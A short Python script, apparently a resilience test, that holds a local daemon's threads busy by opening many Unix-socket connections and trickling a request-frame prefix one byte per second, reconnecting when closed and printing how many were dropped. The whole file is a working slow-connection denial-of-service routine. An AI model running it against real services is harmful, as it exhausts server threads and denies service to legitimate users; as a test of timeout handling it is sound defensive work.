# A local process of Apache's User holding daemon threads without the
# secret: N connections to a daemon socket, each sending the start of a
# plausible Request frame one byte per second; a connection the daemon
# closes is made again. Prints how many the daemon closed.
# Usage: trickle.py SOCKET N SECONDS
import socket
import struct
import sys
import time

path, n, seconds = sys.argv[1], int(sys.argv[2]), float(sys.argv[3])
prefix = struct.pack('>BIB', 1, 4096, 2) + b'\0' * 32 + b'\0' * 64


def connect():
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    s.connect(path)
    return [s, 0]


conns = [connect() for _ in range(n)]
closed = 0
end = time.monotonic() + seconds
while time.monotonic() < end:
    for c in conns:
        try:
            c[0].send(prefix[c[1] % len(prefix):][:1])
            c[1] += 1
        except OSError:
            closed += 1
            c[0].close()
            c[:] = connect()
    time.sleep(1)
print(closed)
